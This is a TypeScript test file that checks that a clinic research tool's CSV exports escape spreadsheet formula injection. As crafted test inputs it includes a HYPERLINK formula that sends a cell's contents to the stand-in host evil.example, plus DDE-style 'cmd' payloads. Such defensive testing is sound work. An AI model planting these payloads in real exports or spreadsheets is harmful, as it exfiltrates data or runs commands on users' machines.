/**
 * CSV exports open in a spreadsheet: no cell may start a formula there. Labels, codes and
 * units come from clinics' records, which any member can write.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { combinedCsv, csvField, extractCsv } from '$lib/domain/research/export.js';
import type { ExtractRow } from '$lib/domain/research/extract.js';
import type { Combined } from '$lib/domain/research/query.js';

/** RFC 4180 reader: the fields a spreadsheet sees, quotes removed. */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let field = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const ch = text[i]!;
		if (quoted) {
			if (ch === '"' && text[i + 1] === '"') {
				field += '"';
				i++;
			} else if (ch === '"') quoted = false;
			else field += ch;
		} else if (ch === '"' && field === '') quoted = true;
		else if (ch === ',') {
			row.push(field);
			field = '';
		} else if (ch === '\n') {
			row.push(field);
			rows.push(row);
			row = [];
			field = '';
		} else field += ch;
	}
	return rows;
}

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
/** What a spreadsheet runs as a formula when a cell's text starts with it. */
const formulaLike = (cell: string) => TRIGGERS.some((t) => cell.startsWith(t));

describe('CSV formula injection', () => {
	it.each(TRIGGERS.map((t) => [JSON.stringify(t), t]))(
		'a text cell starting with %s opens as text: quoted, behind a single quote',
		(_, trigger) => {
			const text = `${trigger}HYPERLINK("http://evil.example/?"&A1,"x")`;
			const field = csvField(text);
			expect(field.startsWith(`"'`)).toBe(true);
			expect(parseCsv(`${field}\n`)).toEqual([[`'${text}`]]);
		}
	);

	it('any text: the cell read back is the text, behind a quote exactly when it would start a formula', () => {
		const trigger = fc.constantFrom(...TRIGGERS, '', 'a', ' ', '"', ',', '\n');
		fc.assert(
			fc.property(trigger, fc.string(), (first, rest) => {
				const text = first + rest;
				const [cells] = parseCsv(`${csvField(text)},end\n`);
				expect(cells).toEqual([formulaLike(text) ? `'${text}` : text, 'end']);
				expect(formulaLike(cells![0]!)).toBe(false);
			}),
			{ numRuns: 2000 }
		);
	});

	it('numbers stay numbers, negative ones with their minus sign; non-numbers are refused', () => {
		expect(csvField(-3.5)).toBe('-3.5');
		expect(csvField(42)).toBe('42');
		expect(csvField('-3.5')).toBe(`"'-3.5"`);
		expect(() => csvField(Number.NaN)).toThrow(/not a number/);
		expect(() => csvField(Number.POSITIVE_INFINITY)).toThrow(/not a number/);
	});

	it('every exported cell is safe: extracts and combined tables whose labels and codes a member crafted', () => {
		const evil = TRIGGERS.map((t) => `${t}cmd|' /C calc'!A0`);
		const rows: ExtractRow[] = evil.map((e, i) => ({
			pid: e,
			age: e,
			sex: e,
			zip3: e,
			year: e,
			conditions: [e, 'SNOMED|1'],
			observations: [{ code: e, value: -i, unit: e }]
		}));
		const table: Combined = {
			kind: 'table',
			rows: evil,
			cols: evil,
			cells: evil.map(() => evil.map(() => ({ value: 12, hiddenAt: 0 }))),
			rowTotals: evil.map(() => ({ value: 72, hiddenAt: 0 })),
			colTotals: evil.map(() => ({ value: 72, hiddenAt: 0 })),
			total: { value: 432, hiddenAt: 0 },
			clinics: 1,
			noisy: false
		};
		for (const text of [extractCsv(rows), combinedCsv(table)]) {
			const cells = parseCsv(text).flat();
			expect(cells.length).toBeGreaterThan(40);
			expect(cells.filter(formulaLike)).toEqual([]);
			expect(cells.filter((c) => c.startsWith("'")).length).toBeGreaterThanOrEqual(evil.length * 2);
		}
		// A negative mean is written as a number.
		const mean: Combined = { kind: 'mean', n: { value: 30, hiddenAt: 0 }, mean: -1.25, clinics: 2, noisy: true };
		expect(parseCsv(combinedCsv(mean))[1]).toEqual(['30', '-1.25', '2', 'true']);
	});
});
